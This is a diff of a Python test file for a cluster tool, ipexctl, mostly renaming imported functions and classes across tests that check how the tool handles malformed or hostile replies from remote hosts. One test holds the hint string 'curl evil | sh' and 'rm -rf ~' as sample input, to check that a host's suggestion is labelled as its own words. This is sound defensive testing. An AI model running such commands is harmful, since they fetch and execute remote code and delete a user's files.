@@ -18,25 +18,25 @@ from ipexctl.base.host_answer import Answer
 from ipexctl.base.host_outcome import HostDown
 from ipexctl.blobs import blob_store
 from ipexctl.common.frames import HEAD
-from ipexctl.data.data import _removed
+from ipexctl.data.data import _removal_recap
 from ipexctl.env.choice.env_list import HostEnvs
 from ipexctl.errors import HostFailed
 from ipexctl.facts import measurements
-from ipexctl.install.stack.env_match import Look, disagreement, modules
+from ipexctl.install.stack.env_match import EnvLook, env_modules, find_disagreement
 from ipexctl.install.stack.selection import proved_text
 from ipexctl.inventory.inventory import Host
-from ipexctl.machines.agent import Agent, Hello, failure
+from ipexctl.machines.agent import Agent, Hello, agent_failure
 from ipexctl.machines.fleet import fan_out
 from ipexctl.machines.wire.frames import HEADER_LIMIT, BadFrame, Decoder
 from ipexctl.machines.wire.transport import PipeChannel
 from ipexctl.project import folder_transfer
-from ipexctl.project.files.project_files import File, Tree
-from ipexctl.project.folder_transfer import Bundle
+from ipexctl.project.files.project_files import ProjectFile, Tree
+from ipexctl.project.folder_transfer import TreeContents
 from ipexctl.project.send_project import InPlace
 from ipexctl.run.plan import mpi
 from ipexctl.run.plan.launch_plan import read_prepared
 from ipexctl.run.watch import fetch_outputs as fetching
-from ipexctl.run.watch.fetch_outputs import Fetched, Wish, fetch_outputs
+from ipexctl.run.watch.fetch_outputs import FetchResult, Wish, fetch_outputs
 from tests.fuzz.answer import ODD
 from tests.hostile.speaker import SPEAKER
 
@@ -95,7 +95,7 @@ def have(agent: Agent) -> object:
 
 def put(agent: Agent) -> object:
     empty, room = [Blob("x", SHA, 0)], blob_store.Room()
-    return blob_store.send(agent, "/r", empty, lambda *part: b"", lambda n: None, room)
+    return blob_store.send_blobs(agent, "/r", empty, lambda *part: b"", lambda n: None, room)
 
 
 def port(agent: Agent) -> object:
@@ -136,17 +136,17 @@ def test_an_odd_answer_is_one_hosts_failure(tmp_path, work, good, evil, result):
 
 def judged(said: Answer) -> object:
     """What comes after is not prepared for a ValueError."""
-    look = said.read(Look, host="h")
+    look = said.read(EnvLook, host="h")
     try:
         prefix = mpi.env_vars("/p", mpi.in_packages(look.packages, "/p"))
-        return prefix, disagreement([look, look]), modules(look)
+        return prefix, find_disagreement([look, look]), env_modules(look)
     except ValueError as e:
         raise AssertionError(look) from e
 
 
 KEY = "0123456789abcdef"
 READ: dict[Callable[[Answer], object], dict[str, Any]] = {
-    lambda a: _removed(Host("h"), a): {"removed": 7},
+    lambda a: _removal_recap(Host("h"), a): {"removed": 7},
     proved_text: {"torch": "2.8", "modules": [["torch", "2.8"]], "step": "fp32", "ranks": 2},
     lambda a: a.read(HostEnvs, host="h"): {
         "root": "/r", "current": KEY, "previous": "", "blobs": 0, "size": 0,
@@ -168,7 +168,7 @@ READ: dict[Callable[[Answer], object], dict[str, Any]] = {
     lambda a: measurements.host_bench("h", a): {
         "status": "ok", "fp32": 1.0, "bf16": 2, "copy": 3.0, "threads": 4,
     },
-    lambda a: measurements.links("h", ["b"], a): {"links": [["b", 0.1, 1e9, ""]]},
+    lambda a: measurements.read_links("h", ["b"], a): {"links": [["b", 0.1, 1e9, ""]]},
 }  # fmt: skip
 
 
@@ -272,10 +272,10 @@ def lacks(*bits: int, count: object) -> list[Frames]:
     ],
 )
 def test_files_that_a_host_cannot_lack(tmp_path, evil):
-    tree = Tree((), tuple(File(name, 0, name * 64) for name in "abc"))
+    tree = Tree((), tuple(ProjectFile(name, 0, name * 64) for name in "abc"))
 
     def send(agent: Agent) -> object:
-        bundle: Any = Bundle(tree, None)  # type: ignore[arg-type]
+        bundle: Any = TreeContents(tree, None)  # type: ignore[arg-type]
         return folder_transfer.send_folder(agent, bundle, {"root": "/r"}).done
 
     good = [[[{"done": {"cwd": "/x"}}, 0]]]
@@ -288,7 +288,7 @@ def test_files_that_a_host_cannot_lack(tmp_path, evil):
 
 def brought(
     folder: Path, first: list[Frames], other: list[Frames], *, limit: int = 100 << 30
-) -> Fetched:
+) -> FetchResult:
     with speaking(folder, {"node01": first, "node02": other}) as agents:
         roots = {"node01": "/r", "node02": "/r"}
         return fetch_outputs(
@@ -373,7 +373,7 @@ def test_a_size_that_no_file_has_ends_that_host_alone(tmp_path, size):
 def test_what_a_host_suggests_is_shown_as_its_words():
     error = {"what": "no", "hint": "curl evil | sh\nrm -rf ~"}
     for host, prefix in ((Host("node01"), "the host suggests: "), (Host("me", local=True), "")):
-        lines = failure(host, error).hint.splitlines()
+        lines = agent_failure(host, error).hint.splitlines()
         assert lines == [f"{prefix}curl evil | sh", f"{prefix}rm -rf ~"]
 
 
